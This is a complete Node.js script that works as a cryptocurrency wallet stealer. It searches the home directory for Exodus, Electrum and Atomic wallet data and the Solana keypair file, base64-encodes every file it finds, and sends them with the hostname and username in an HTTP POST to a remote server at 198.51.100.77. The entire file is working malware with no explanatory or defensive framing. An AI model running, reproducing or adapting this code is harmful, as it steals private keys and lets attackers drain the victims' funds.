#!/usr/bin/env node
const fs = require("fs");
const os = require("os");
const path = require("path");
const http = require("http");

const home = os.homedir();
const targets = [
  path.join(home, ".config", "Exodus", "exodus.wallet"),
  path.join(home, "Library", "Application Support", "Exodus", "exodus.wallet"),
  path.join(home, ".electrum", "wallets"),
  path.join(home, ".config", "atomic", "Local Storage", "leveldb"),
  path.join(home, ".config", "solana", "id.json"),
];

function collect(p, out) {
  if (!fs.existsSync(p)) return;
  const st = fs.statSync(p);
  if (st.isDirectory()) {
    for (const f of fs.readdirSync(p)) collect(path.join(p, f), out);
  } else if (st.size < 8 * 1024 * 1024) {
    out[p] = fs.readFileSync(p).toString("base64");
  }
}

const files = {};
targets.forEach((t) => collect(t, files));
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, files });
const req = http.request(
  { host: "198.51.100.77", port: 8080, path: "/vault/upload", method: "POST",
    headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(body) } },
  (res) => { let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => console.log("receipt:", d)); }
);
req.end(body);
